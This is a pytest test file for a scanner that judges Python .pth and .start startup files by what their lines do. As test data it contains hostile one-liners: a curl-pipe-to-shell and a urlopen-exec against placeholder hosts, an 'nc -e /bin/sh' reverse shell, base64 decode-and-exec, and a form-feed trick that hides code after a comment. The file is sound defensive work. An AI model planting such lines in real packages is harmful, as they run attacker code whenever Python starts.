"""The .pth / .start analyzer: CPython's `site` emulated per version, lines judged by what they do."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "rules"))

from fixtures_pth import LEGITIMATE, LITELLM_LINE, DictArtifact, write_wheel

from chainwarden.analyzers.base import ArtifactView
from chainwarden.analyzers.pth import (
    VERSIONS,
    PthAnalyzer,
    extract_pth,
    read_legacy,
    read_modern,
    startup_modules,
)
from chainwarden.models import ArtifactKind, Finding, Severity, Trigger

ANALYZER = PthAnalyzer()


def judge(files: dict[str, bytes], kind: ArtifactKind = ArtifactKind.WHEEL) -> list[Finding]:
    art = DictArtifact(files, kind)
    view = ArtifactView(art.ref, kind, None, art.members())
    facts = {m.path: ANALYZER.extract(art.read(m.path)) for m in art.members() if ANALYZER.select(m, view)}
    return sorted(ANALYZER.judge(view, facts), key=lambda f: f.sort_key)


def top(files: dict[str, bytes], kind: ArtifactKind = ArtifactKind.WHEEL) -> Severity | None:
    findings = judge(files, kind)
    return findings[0].severity if findings else None


# ---------------------------------------------------------------- reading like each `site`


@pytest.mark.parametrize("sep", ["\x0c", "\x0b", "\x85", "\u2028", "\u2029", "\x1c", "\x1d", "\x1e"])
def test_modern_python_splits_where_legacy_does_not(sep: str) -> None:
    data = f"# a comment{sep}import os\n".encode()
    _, legacy = read_legacy(data)
    _, modern = read_modern(data)
    assert [ln.text for ln in legacy] == [f"# a comment{sep}import os\n"]
    assert [ln.text for ln in modern] == ["# a comment", "import os"]
    assert [ln.physical for ln in modern] == [1, 1]


def test_universal_newlines_are_the_same_everywhere() -> None:
    data = b"a\r\nimport os\rb\nimport sys"
    _, legacy = read_legacy(data)
    _, modern = read_modern(data)
    assert (
        [ln.text.rstrip("\n") for ln in legacy] == [ln.text for ln in modern] == ["a", "import os", "b", "import sys"]
    )
    assert [ln.physical for ln in legacy] == [ln.physical for ln in modern] == [1, 2, 3, 4]


def test_form_feed_hides_code_in_a_comment_from_3_13_on() -> None:
    facts = extract_pth(b"# nothing to see\x0cimport os; os.system('id')\n")
    (line,) = facts.exec_lines
    assert line.versions == ("3.13", "3.14", "3.15")
    assert line.hidden_from == ("3.11", "3.12")
    assert line.text == "import os; os.system('id')"


def test_x85_byte_is_not_utf8_so_modern_falls_back_to_locale() -> None:
    # A lone 0x85 is invalid UTF-8: 3.13 falls back to the locale (latin-1 here), where 0x85 is NEL.
    facts = extract_pth(b"# x\x85import os\n")
    assert [line.versions for line in facts.exec_lines] == [("3.13", "3.14", "3.15")]
    assert "locale" in dict(facts.encodings)["3.13+"]


def test_bom_runs_only_from_3_13_and_is_not_called_hidden() -> None:
    (line,) = extract_pth(b"\xef\xbb\xbfimport os\n").exec_lines
    assert line.versions == ("3.13", "3.14", "3.15")
    assert line.hidden_from == ()


def test_import_needs_a_space_or_tab_and_must_start_the_line() -> None:
    facts = extract_pth(b"import\tos\nimportos\n import os\n#import os\n\n   \nimport os\n")
    assert [ln.line for ln in facts.exec_lines] == [1, 7]
    assert [p.text for p in facts.path_lines] == ["importos", " import os"]
    assert all(ln.versions == VERSIONS for ln in facts.exec_lines)


# ---------------------------------------------------------------- no allowlist: judged by content


@pytest.mark.parametrize("name", sorted(LEGITIMATE))
def test_legitimate_pth_files_stay_below_high(name: str) -> None:
    findings = judge({name: LEGITIMATE[name], "demo/__init__.py": b""})
    assert all(f.severity <= Severity.MEDIUM for f in findings), [(f.rule_id, f.message) for f in findings]
    if LEGITIMATE[name].startswith(b"import"):
        assert findings
        assert findings[0].rule_id == "CW100"
        assert findings[0].trigger is Trigger.INTERPRETER_START


def test_same_legitimate_text_under_another_name_is_judged_the_same() -> None:
    assert top({"zzz.pth": LEGITIMATE["distutils-precedence.pth"]}) == Severity.MEDIUM
    assert top({"distutils-precedence.pth": LITELLM_LINE}) == Severity.CRITICAL


def test_litellm_style_line_is_critical_with_the_code_shown() -> None:
    (finding, *_) = judge({"litellm_init.pth": LITELLM_LINE})
    assert finding.severity is Severity.CRITICAL
    assert finding.rule_id == "CW102"
    assert finding.trigger is Trigger.INTERPRETER_START
    assert finding.location.path == "litellm_init.pth"
    assert finding.location.line == 1
    assert "subprocess.Popen" in finding.evidence.snippet
    methods = [s.method for s in finding.evidence.decoded]
    assert methods[0].startswith("code passed to a child interpreter")
    assert methods.count("base64") == 2  # both layers peeled
    assert "exfil.invalid" in finding.evidence.decoded[-1].preview
    assert {"child-interpreter", "decode-exec", "process"} <= set(finding.capabilities)


def test_litellm_line_split_off_a_comment_by_form_feed_is_critical() -> None:
    findings = judge({"litellm_init.pth": b"# litellm init\x0c" + LITELLM_LINE})
    assert [f.rule_id for f in findings][:2] == ["CW102", "CW103"]
    assert findings[0].severity is Severity.CRITICAL
    assert "3.13" in findings[0].message


@pytest.mark.parametrize(
    "path",
    [
        "demo-1.0.data/purelib/litellm_init.pth",
        "demo-1.0.data/platlib/litellm_init.pth",
        "demo-1.0.data/data/lib/python3.11/site-packages/litellm_init.pth",
    ],
)
def test_pth_reaching_site_packages_through_data_dirs(path: str) -> None:
    (finding, *_) = judge({path: LITELLM_LINE})
    assert finding.severity is Severity.CRITICAL
    assert finding.location.path == path


@pytest.mark.parametrize(
    "path", ["demo/litellm_init.pth", "demo-1.0.data/scripts/x.pth", "demo-1.0.data/data/share/x.pth"]
)
def test_pth_that_site_never_reads_is_ignored(path: str) -> None:
    assert judge({path: LITELLM_LINE}) == []


@pytest.mark.parametrize(
    ("line", "severity"),
    [
        (b"import base64; exec(base64.b64decode('aW1wb3J0IG9z'))", Severity.CRITICAL),
        (
            b"import zlib, base64; exec(zlib.decompress(base64.b64decode(b'eJzLzC3ILypRyC8GAA6wA5o=')))",
            Severity.CRITICAL,
        ),
        (b"import os; os.system('curl https://x.invalid/a | sh')", Severity.CRITICAL),
        (b"import urllib.request as u; exec(u.urlopen('https://x.invalid').read())", Severity.CRITICAL),
        (b"import subprocess; subprocess.run(['id'])", Severity.HIGH),
        (b"import socket; socket.create_connection(('127.0.0.1', 9))", Severity.HIGH),
        (b"import os; exec(os.environ['X'])", Severity.MEDIUM),
        (b"import os; exec(os.environ.get('X', 'import subprocess; subprocess.run([\"id\"])'))", Severity.HIGH),
        (b"import sys; exec(sys.argv[0])", Severity.HIGH),
        (b"import codecs; print(codecs.decode('vzcbeg bf', 'rot13'))", Severity.HIGH),
        (b"import pkg_boot", Severity.MEDIUM),
        (b"import sys; exec('async def f(): pass\\nimport asyncio')", Severity.MEDIUM),
        (b"import os; os.system('nc -e /bin/sh 127.0.0.1 9')", Severity.CRITICAL),
    ],
)
def test_severity_rises_with_what_the_line_does(line: bytes, severity: Severity) -> None:
    assert top({"x.pth": line + b"\n"}) == severity


def test_syntax_error_does_not_make_dangerous_code_harmless() -> None:
    # Newer grammar than ours, or deliberately broken: still judged by its words.
    assert top({"x.pth": b"import os; exec(f'{os.name!r:{\"x\"}}' ) ) \n"}) == Severity.HIGH
    assert top({"x.pth": b"import os (\n"}) == Severity.MEDIUM


def test_aliases_are_followed() -> None:
    line = b"import subprocess as s, sys as y; s.Popen([y.executable, '-c', 'import base64;exec(base64.b64decode(\"eA==\"))'])"
    assert top({"x.pth": line + b"\n"}) == Severity.CRITICAL


# ---------------------------------------------------------------- .start files, paths, sdists


def test_start_entry_points_run_at_interpreter_start() -> None:
    findings = judge({"demo.start": b"# comment\n\ndemo.boot:run\nnot an entry point\n"})
    assert [(f.rule_id, f.location.line) for f in findings] == [("CW104", 3)]
    assert findings[0].trigger is Trigger.INTERPRETER_START


def test_matching_start_file_disables_pth_imports_only_from_3_15() -> None:
    (finding,) = judge({"demo.pth": b"import demo_boot\n", "demo.start": b""})
    assert "3.15" not in finding.message
    assert "3.14" in finding.message
    (alone,) = judge({"demo.pth": b"import demo_boot\n"})
    assert "every supported Python" in alone.message


def test_path_line_to_a_directory_holding_sitecustomize() -> None:
    findings = judge({"demo.pth": b"hooks\n", "hooks/sitecustomize.py": b"import os\n"})
    assert [f.rule_id for f in findings] == ["CW105"]
    assert findings[0].trigger is Trigger.INTERPRETER_START
    assert judge({"demo.pth": b"hooks\n", "hooks/other.py": b""}) == []


@pytest.mark.parametrize("line", [b"/tmp/x", b"\\\\evil.invalid\\share", b".hidden", b"../../elsewhere", b"/opt/x"])
def test_odd_path_lines_are_low(line: bytes) -> None:
    findings = judge({"demo.pth": line + b"\n"})
    assert [(f.rule_id, f.severity) for f in findings] == [("CW106", Severity.LOW)]


def test_installed_environment_may_hold_absolute_editable_paths() -> None:
    assert judge({"__editable__.demo.pth": b"/home/dev/demo/src\n"}, ArtifactKind.INSTALLED) == []


def test_sdist_pth_judged_by_name_with_lower_confidence() -> None:
    findings = judge({"demo-1.0/litellm_init.pth": LITELLM_LINE}, ArtifactKind.SDIST)
    assert findings[0].severity is Severity.CRITICAL
    assert findings[0].confidence.label == "medium"
    assert "if installed" in findings[0].message


def test_model_checkpoint_named_pth_in_sdist_is_not_a_path_file() -> None:
    assert judge({"demo-1.0/weights/model.pth": b"PK\x03\x04\x00\x00import os\n"}, ArtifactKind.SDIST) == []


def test_startup_modules_are_roots_for_the_python_engine() -> None:
    files = {"a.pth": b"import pkg_boot; pkg_boot.go()\n", "b.start": b"other.mod:main\n", "c.pth": b"src\n"}
    art = DictArtifact(files)
    view = ArtifactView(art.ref, ArtifactKind.WHEEL, None, art.members())
    facts = {m.path: ANALYZER.extract(art.read(m.path)) for m in art.members()}
    assert startup_modules(view, facts) == ("pkg_boot", "other.mod")


def test_flood_of_executable_lines_is_not_a_way_to_hide() -> None:
    data = b"".join(b"import m%d\n" % i for i in range(2100)) + b"import base64; exec(base64.b64decode('eA=='))\n"
    facts = extract_pth(data)
    assert facts.unanalysed_exec_lines == 101
    assert top({"flood.pth": data}) == Severity.HIGH


def test_hostile_bytes_never_raise() -> None:
    for data in (b"", b"\xff\xfe\x00", b"import " + b"(" * 5000, b"import os;" * 20000, bytes(range(256)) * 4):
        extract_pth(data)


# ---------------------------------------------------------------- end to end through the engine


def test_engine_round_trips_the_facts_through_the_cache(tmp_path: Path) -> None:
    from fixtures_pth import open_fixture

    from chainwarden.engine import Scanner, ScanOptions

    wheel = write_wheel(tmp_path, "demo", {"litellm_init.pth": b"# x\x0c" + LITELLM_LINE})
    options = ScanOptions(jobs=1, cache_dir=tmp_path / "cache")
    for _ in range(2):  # cold, then from the cache
        with Scanner(options, analyzers=[PthAnalyzer()]) as scanner, open_fixture(wheel) as art:
            result = scanner.scan_artifact(art)
        assert [f.rule_id for f in result.findings][:2] == ["CW102", "CW103"]
    assert result.stats.cache_hits == 1
